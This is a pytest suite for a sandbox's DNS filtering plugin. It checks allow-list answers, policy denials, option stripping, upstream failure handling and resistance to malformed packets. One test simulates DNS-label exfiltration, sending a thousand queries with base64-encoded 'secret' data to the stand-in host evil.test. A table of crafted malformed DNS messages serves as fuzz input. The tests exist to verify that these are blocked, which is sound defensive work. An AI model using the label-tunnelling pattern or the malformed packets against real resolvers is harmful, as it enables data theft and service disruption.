"""The dns plugin in a cell, asked by raw messages; the witness notes every question that goes upstream.

DNS-01 to -06, -09, -11 to -22, -29, -35.
"""

import ipaddress
import json
import socket
import struct

import pytest

from small_internet import world
from small_internet.messages import Answer, query

P0 = """version: 1
rules:
  - name: api
    action: allow
    domains: [api.example.test]
    ports: [443]
  - name: cdn
    action: allow
    domains: ["*.cdn.test"]
    ports: [80, 443]
  - name: pkg
    action: allow
    domains: [pkg.test]
    ports: [80, 443]
  - name: others
    action: allow
    domains: ["*.scripted.test", "*.guard.test", "*.loop.test", alias.example.test, v4only.example.test, v6only.example.test, mail.example.test, long.example.test]
    ports: [80, 443]
"""
SYNTHETIC4 = ipaddress.ip_network("198.18.0.0/15")
ULA = ipaddress.ip_network("fc00::/7")
NOERROR, FORMERR, SERVFAIL, NXDOMAIN, NOTIMP, REFUSED, BADVERS = 0, 1, 2, 3, 4, 5, 16


def ask(lab, *messages, tcp=False, policy=P0, timeout=8, **options):
    """One cell, each message asked once: ([Answer or error word], run)."""
    steps = [{"do": "dns", "send": m, "tcp": tcp, "timeout": timeout} for m in messages]
    results, run = lab.probe(steps, policy=policy, **options)
    return [Answer(r["data"]) if r.get("data") else r.get("error", "silence") for r in results], run


def assert_policy_denial(answer):
    """NXDOMAIN, a SOA with a negative TTL of at most 10 s, and EDE 15 (DNS-02)."""
    assert answer.rcode == NXDOMAIN and not answer.answers, vars(answer)
    assert answer.authority and answer.authority[0][0] == 6, vars(answer)
    _, ttl, data = answer.authority[0]
    assert min(ttl, struct.unpack("!I", data[-4:])[0]) <= 10
    if answer.opt:
        assert answer.ede == [15]


EDNS = (0, 1232, b"")


@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
def test_allowed_name(lab, witness, tcp):
    """DNS-01, DNS-04: a synthetic address, AA=0, RA=1, the question echoed; the same by TCP."""
    with witness.expect_only("api.example.test"):
        (answer,), run = ask(lab, query("api.example.test", edns=EDNS), tcp=tcp)
    assert (answer.rcode, answer.aa, answer.ra, answer.ident, answer.whole) == (
        NOERROR,
        False,
        True,
        0x1234,
        True,
    ), vars(answer)
    ((kind, ttl, data),) = answer.answers
    assert kind == 1 and ipaddress.ip_address(data) in SYNTHETIC4 and 0 < ttl <= 3600
    assert [
        r for r in run.audit if r["effective"] == "allow" and r["name"] == "api.example.test" and r["plugin"] == "dns"
    ], run


def test_allowed_name_aaaa(lab, witness):
    """DNS-01 for AAAA: the host has IPv6."""
    (answer,), _ = ask(lab, query("api.example.test", "AAAA"))
    ((kind, _, data),) = answer.answers
    assert kind == 28 and ipaddress.ip_address(data) in ULA


def test_control_bare_host_may_ask_anything(lab, witness):
    """The control of every denial below: without a cell the question arrives."""
    with witness.watch() as seen:
        results, _ = lab.probe([{"do": "dns", "send": query("c2VjcmV0.evil.test")}], confined=False)
    assert Answer(results[0]["data"]).answers and [q.name for q in seen.asked] == ["c2vjcmv0.evil.test"]


@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
@pytest.mark.parametrize(
    "name",
    [
        "evil.test",
        "xapi.example.test",
        "api.example.test.evil.test",
        "cdn.test",
        "test",
        "nowhere.invalid",
        "localhost.evil.test",
    ],
)
def test_denied_name(lab, witness, name, tcp):
    """DNS-02, NAM-03."""
    with witness.expect_zero():
        (answer,), run = ask(lab, query(name, edns=EDNS), tcp=tcp)
    assert_policy_denial(answer)
    assert answer.ede == [15] and run.denials(name=name)[0]["reason"] in ("no_rule", "name_not_allowed"), run


def test_exfiltration_by_labels(lab, witness):
    """DNS-03: a thousand names that carry data; none is heard outside."""
    with witness.expect_zero():
        answers, run = ask(lab, *[query(f"{i:04x}c2VjcmV0.evil.test") for i in range(1000)], timeout=5)
    assert all(not isinstance(a, str) and a.rcode == NXDOMAIN for a in answers), [
        a for a in answers if isinstance(a, str)
    ][:3]
    assert sum(r.get("count", 1) for r in run.denials()) == 1000


def test_upstream_truncates(lab, witness):
    """DNS-04: TC from upstream is followed by TCP, once; the client gets one answer."""
    with witness.expect_only("tc.scripted.test") as seen:
        (answer,), _ = ask(lab, query("tc.scripted.test"))
    assert answer.rcode == NOERROR and len(answer.answers) == 1 and not answer.tc
    assert {q.transport for q in seen.asked} == {"udp", "tcp"}


def test_case_is_echoed_to_the_client_and_hidden_from_upstream(lab, witness):
    """DNS-05; no case pattern of the client's crosses."""
    with witness.expect_only("api.example.test") as seen:
        (answer,), _ = ask(lab, query("API.ExAmPlE.TeSt"))
    assert answer.rcode == NOERROR and len(answer.answers) == 1
    assert answer.question.startswith(b"\x03API\x07ExAmPlE\x04TeSt\0")
    assert all(b"ExAmPlE" not in q.raw for q in seen.asked)


def test_client_options_do_not_cross(lab, witness):
    """A client subnet, a cookie and an unknown option stay here."""
    secret = b"SECRETPAYLOAD"
    options = (
        struct.pack("!HH", 65001, len(secret))
        + secret
        + struct.pack("!HH", 10, 8)
        + b"COOKIE42"
        + struct.pack("!HHHBB", 8, 7, 1, 24, 0)
        + b"\x0a\x0b\x0c"
    )
    with witness.expect_only("api.example.test") as seen:
        (answer,), _ = ask(lab, query("api.example.test", ident=0xBEEF, edns=(0, 1232, options)))
    assert answer.rcode == NOERROR and answer.answers
    for question in seen.asked:
        assert (
            secret not in question.raw and b"COOKIE42" not in question.raw and b"\x0a\x0b\x0c" not in question.raw[12:]
        )


@pytest.mark.parametrize("name, qtype", [("v4only.example.test", "AAAA"), ("v6only.example.test", "A")])
def test_name_without_that_family(lab, name, qtype):
    """DNS-06: NODATA with a SOA; never NXDOMAIN."""
    (answer,), _ = ask(lab, query(name, qtype))
    assert answer.rcode == NOERROR and not answer.answers and answer.authority[0][0] == 6, vars(answer)


def test_allowed_name_that_does_not_exist(lab):
    """An honest NXDOMAIN, without the mark of policy."""
    (answer,), _ = ask(lab, query("nxdomain.scripted.test", edns=EDNS))
    assert answer.rcode == NXDOMAIN and 15 not in answer.ede


@pytest.mark.parametrize(
    "qtype", ["TXT", "NULL", "CNAME", "MX", "SRV", "ANY", "HTTPS", 64, 2, 6, 12, 43, 48, 257, 65280]
)
def test_other_types(lab, witness, qtype):
    """DNS-09: nothing but A and AAAA goes upstream."""
    with witness.expect_zero():
        (answer,), run = ask(lab, query("mail.example.test", qtype))
    assert not answer.answers and (
        answer.rcode == NOERROR or (qtype == "ANY" and answer.rcode in (NOTIMP, REFUSED))
    ), vars(answer)
    assert run.denials(name="mail.example.test", reason="qtype_denied"), run


@pytest.mark.parametrize("name, qtype", [(n, "A") for n in world.GUARDED4] + [(n, "AAAA") for n in world.GUARDED6])
def test_guarded_answers(lab, witness, name, qtype):
    """DNS-11, DNS-12: the record is removed; none left: NXDOMAIN, EDE 15."""
    with witness.expect_only(name):
        (answer,), run = ask(lab, query(name, qtype, edns=EDNS))
    assert answer.rcode == NXDOMAIN and not answer.answers and answer.ede == [15], vars(answer)
    assert run.denials(name=name, reason="answer_forbidden_addr") or run.denials(
        name=name, reason="guard_metadata"
    ), run


def test_guarded_and_good_answer(lab, witness):
    """DNS-11: only the guarded record goes; the flow reaches the good address."""
    with witness.expect_only("mixed.guard.test", ports=[(world.GOOD4, 443)]):
        run = lab.run("curl", "-sS", "-4", "https://mixed.guard.test/whoami", policy=P0)
    assert f"addr={world.GOOD4}" in run.text, run


def test_alias_to_a_name_outside_the_policy(lab, witness):
    """DNS-13: the queried name authorises its chain; no name of the chain becomes allowed."""
    with witness.expect_only("alias.example.test", "x.evil.test", ports=[(world.EVIL4, 443), (world.EVIL6, 443)]):
        results, run = lab.probe(
            [
                {"do": "dns", "send": query("alias.example.test")},
                {"do": "dns", "send": query("x.evil.test", edns=EDNS)},
            ],
            policy=P0,
        )
    first, second = (Answer(r["data"]) for r in results)
    assert first.rcode == NOERROR and [a[0] for a in first.answers][-1] == 1
    assert_policy_denial(second)
    assert b"evil" not in first.message, "a name of the chain is shown to the workload"


@pytest.mark.parametrize("name", ["loop0.loop.test", "chain0.loop.test"])
def test_alias_loops_and_long_chains(lab, witness, name):
    """DNS-14: SERVFAIL within 2 s, at most 16 upstream queries."""
    with witness.watch() as seen:
        results, run = lab.probe(
            [{"do": "dns", "send": query(name)}, {"do": "dns", "send": query("api.example.test")}], policy=P0
        )
    assert Answer(results[0]["data"]).rcode == SERVFAIL and results[0]["seconds"] < 2, results
    assert Answer(results[1]["data"]).answers, "the worker is alive"
    assert len([q for q in seen.asked if q.name != "api.example.test"]) <= 16


def test_chain_that_is_not_too_long(lab):
    (answer,), _ = ask(lab, query("chain5.loop.test"))
    assert answer.rcode == NOERROR and answer.answers[-1][0] == 1


HEADER = "12340100000100000000" + "0000"
BROKEN = {
    "pointer-to-itself": bytes.fromhex(HEADER) + b"\xc0\x0c\0\1\0\1",
    "pointer-loop": bytes.fromhex(HEADER) + b"\xc0\x0e\xc0\x0c\0\1\0\1",
    "pointer-forward": bytes.fromhex(HEADER) + b"\xc0\x10\0\1\0\1\3abc\0",
    "pointer-past-end": bytes.fromhex(HEADER) + b"\xc3\xff\0\1\0\1",
    "label-64": bytes.fromhex(HEADER) + b"\x40" + b"a" * 64 + b"\0\0\1\0\1",
    "label-type-10": bytes.fromhex(HEADER) + b"\x80a\0\0\1\0\1",
    "name-256": bytes.fromhex(HEADER) + (b"\x3f" + b"a" * 63) * 3 + b"\x3e" + b"a" * 62 + b"\0\0\1\0\1",
    "labels-128": bytes.fromhex(HEADER) + b"\1a" * 128 + b"\0\0\1\0\1",
    "no-end": bytes.fromhex(HEADER) + b"\3api",
    "question-cut": bytes.fromhex(HEADER) + b"\3api\4test\0\0",
    "header-cut": bytes.fromhex(HEADER)[:11],
    "one-byte": b"\x12",
    "qdcount-0": bytes.fromhex("123401000000000000000000"),
    "qdcount-2": bytes.fromhex("123401000002000000000000") + b"\3api\7example\4test\0\0\1\0\1" * 2,
    "ancount-1": bytes.fromhex("123401000001000100000000")
    + b"\3api\7example\4test\0\0\1\0\1"
    + b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4\1\2\3\4",
    "trailing-bytes": bytes.fromhex(query("api.example.test", tail=b"SECRET")),
    "two-opt": bytes.fromhex(query("api.example.test", edns=[EDNS, EDNS])),
    "opt-counted-not-there": bytes.fromhex(query("api.example.test", counts=(1, 0, 0, 1))),
    "response-bit": bytes.fromhex(query("api.example.test", flags=0x8180)),
}


@pytest.mark.parametrize("kind", BROKEN)
def test_malformed_queries(lab, witness, kind):
    """DNS-15, DNS-16, DNS-19, DNS-22: FORMERR or silence, nothing upstream, and the worker is alive afterwards."""
    with witness.expect_only("pkg.test"):
        results, run = lab.probe(
            [{"do": "dns", "send": BROKEN[kind].hex(), "timeout": 0.5}, {"do": "dns", "send": query("pkg.test")}],
            policy=P0,
        )
    if kind in ("header-cut", "one-byte", "response-bit"):  # not to be answered at all
        assert results[0].get("error") in ("TimeoutError", "ECONNREFUSED"), results
    else:
        assert "data" not in results[0] or Answer(results[0]["data"]).rcode == FORMERR, results
    assert Answer(results[1]["data"]).answers, results


def test_name_of_exactly_255_octets(lab, witness):
    """DNS-16: handled, as a name outside the policy."""
    wire = (b"\x3f" + b"a" * 63) * 3 + b"\x38" + b"a" * 56 + b"\4test\0"
    assert len(wire) == 255
    with witness.expect_zero():
        (answer,), _ = ask(lab, query(None, wire=wire))
    assert answer.rcode == NXDOMAIN


@pytest.mark.parametrize(
    "label", [b"\0", b"a.b", b"\x80", b"\xff\xfe", b"a\r\nb", b"api.example", b"a b", b'"', b"\x1b[31m"], ids=repr
)
def test_strange_octets_in_labels(lab, witness, label):
    """DNS-17: never matched as text; LOG-01: the audit escapes them."""
    wire = bytes([len(label)]) + label + b"\3cdn\4test\0"
    with witness.expect_zero():
        (answer,), run = ask(lab, query(None, wire=wire, edns=EDNS))
    assert answer.rcode == NXDOMAIN, vars(answer)
    (denial,) = run.denials(reason="name_malformed")
    assert "cdn" in json.dumps(denial["raw"]) and not set(denial["raw"]) & set(
        map(chr, [*range(32), *range(127, 256)])
    ), denial


@pytest.mark.parametrize("name", ["_dns.cdn.test", "a_b.cdn.test"])
def test_underscore(lab, name):
    """DNS-18."""
    (answer,), _ = ask(lab, query(name))
    assert answer.rcode == NOERROR and answer.answers


@pytest.mark.parametrize("opcode", [1, 2, 4, 5, 6, 15])
@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
def test_other_opcodes(lab, witness, opcode, tcp):
    """DNS-20."""
    with witness.expect_zero():
        (answer,), _ = ask(lab, query("api.example.test", flags=0x0100 | opcode << 11), tcp=tcp)
    assert answer.rcode == NOTIMP


@pytest.mark.parametrize(
    "name, qtype, qclass",
    [
        ("version.bind", "TXT", 3),
        ("hostname.bind", "TXT", 3),
        ("api.example.test", "A", 255),
        ("api.example.test", "A", 4),
        ("api.example.test", "A", 0),
    ],
)
def test_other_classes(lab, witness, name, qtype, qclass):
    """DNS-21: REFUSED, no version text."""
    with witness.expect_zero():
        (answer,), _ = ask(lab, query(name, qtype, qclass=qclass))
    assert answer.rcode == REFUSED and not answer.answers


def test_edns_version_1(lab, witness):
    """DNS-22."""
    with witness.expect_zero():
        (answer,), _ = ask(lab, query("api.example.test", edns=(1, 1232, b"")))
    assert answer.rcode == BADVERS


@pytest.mark.parametrize("size", [0, 512, 65535])
def test_edns_sizes(lab, size):
    """DNS-22: 0 is taken as 512, 65535 is capped at 1232."""
    (answer,), _ = ask(lab, query("api.example.test", edns=(0, size, b"")))
    assert answer.rcode == NOERROR and answer.answers and answer.opt[0] <= 1232


def test_many_addresses_become_one(lab):
    """A name with sixty addresses upstream has one here: the answer is never too large."""
    (answer,), _ = ask(lab, query("long.example.test"))
    assert answer.rcode == NOERROR and len(answer.answers) == 1


@pytest.mark.parametrize(
    "name", ["wrongid", "wrongname", "wrongtype", "notreply", "foreign", "short", "counts", "pointerloop"]
)
def test_wrong_replies_from_upstream(lab, witness, name):
    """DNS-29 and its class: a reply to another question is not an answer; the right one, if it comes, is used."""
    with witness.expect_only(f"{name}.scripted.test", ports=[(world.GOOD4, 80)]):
        results, run = lab.probe(
            [
                {
                    "do": "tcp",
                    "to": [f"{name}.scripted.test", 80],
                    "family": 4,
                    "read": 4,
                    "timeout": 6,
                    "send": f"GET /whoami HTTP/1.0\r\nHost: {name}.scripted.test\r\n\r\n".encode().hex(),
                }
            ],
            policy=P0,
        )
    if name in ("wrongid", "wrongname", "wrongtype", "notreply"):  # the right reply follows 100 ms later
        assert bytes.fromhex(results[0]["data"]).startswith(b"HTTP"), (results, run)
    else:
        assert results[0].get("error") == "gaierror", (results, run)


def test_extra_records_are_dropped(lab, witness):
    """DNS-29: an A for pkg.test and NS records beside the answer change nothing."""
    with witness.expect_only(
        "extra.scripted.test", "pkg.test", ports=[(world.PKG4, 80), (world.PKG6, 80), (world.GOOD4, 80)]
    ):
        run = lab.run(
            "sh", "-c", "curl -4 -sS http://extra.scripted.test/whoami; curl -4 -sS http://pkg.test/whoami", policy=P0
        )
    assert f"addr={world.GOOD4}" in run.text and "host=pkg.test" in run.text and world.EVIL4 not in run.text, run


def test_silent_upstream(lab, witness):
    """DNS-35: SERVFAIL with EDE 22 or 23 by 5 s, retries bounded."""
    with witness.expect_only("silent.scripted.test") as seen:
        results, run = lab.probe(
            [{"do": "dns", "send": query("silent.scripted.test", edns=EDNS), "timeout": 8}], policy=P0
        )
    answer = Answer(results[0]["data"])
    assert answer.rcode == SERVFAIL and set(answer.ede) & {22, 23} and results[0]["seconds"] <= 5.2, (
        results,
        vars(answer),
    )
    assert len(seen.asked) <= 6
    assert [r for r in run.audit if r["name"] == "silent.scripted.test" and r["reason"] == "upstream_failed"], run


def test_one_lost_datagram(lab):
    """A retry within the client's patience."""
    (answer,), _ = ask(lab, query("flaky.scripted.test"), timeout=5)
    assert answer.rcode == NOERROR and answer.answers


@pytest.mark.parametrize("name", ["servfail.scripted.test", "refused.scripted.test"])
def test_upstream_fails(lab, name):
    (answer,), _ = ask(lab, query(name))
    assert answer.rcode == SERVFAIL and not answer.answers


def test_no_resolver_at_all(lab, witness):
    """Upstream nobody listens to: SERVFAIL within 5 s, and nothing else is asked."""
    results, run = lab.probe(
        [{"do": "dns", "send": query("api.example.test"), "timeout": 8}], policy=P0, resolver=world.BLACKHOLE4
    )
    assert Answer(results[0]["data"]).rcode == SERVFAIL and results[0]["seconds"] <= 5.2


@pytest.mark.parametrize("server", [world.OTHER_RESOLVER, world.OTHER_RESOLVER6, "127.0.0.1", "::1", "192.0.2.1"])
@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
def test_any_server_on_port_53_is_ours(lab, witness, server, tcp):
    """CEL-03: another resolver is asked, our policy answers; the reply comes from the address that was asked."""
    with witness.expect_only("api.example.test"):
        results, run = lab.probe(
            [
                {"do": "dns", "to": [server, 53], "send": query("api.example.test"), "tcp": tcp},
                {"do": "dns", "to": [server, 53], "send": query("evil.test"), "tcp": tcp},
            ],
            policy=P0,
        )
    assert Answer(results[0]["data"]).answers and Answer(results[1]["data"]).rcode == NXDOMAIN, results


def test_tcp_pipelining_and_small_writes(lab, witness):
    """Two questions in one write are both answered; one in 1-byte writes is served."""
    framed = bytes.fromhex(query("api.example.test"))
    framed = struct.pack("!H", len(framed)) + framed
    results, _ = lab.probe(
        [
            {"do": "dns", "tcp": True, "messages": [query("api.example.test", ident=1), query("evil.test", ident=2)]},
            {
                "do": "tcp",
                "to": ["8.8.8.8", 53],
                "pieces": [framed[i : i + 1].hex() for i in range(len(framed))],
                "pause": 0.001,
                "read": 40,
            },
        ],
        policy=P0,
    )
    assert {Answer(a).ident for a in results[0]["answers"]} == {1, 2}
    assert Answer(bytes.fromhex(results[1]["data"])[2:]).answers


def test_same_name_same_address_and_two_names_two(lab):
    answers, _ = ask(lab, query("api.example.test"), query("API.example.test"), query("pkg.test"))
    first, again, other = (a.answers[0][2] for a in answers)
    assert first == again != other
    assert socket.inet_ntoa(first)
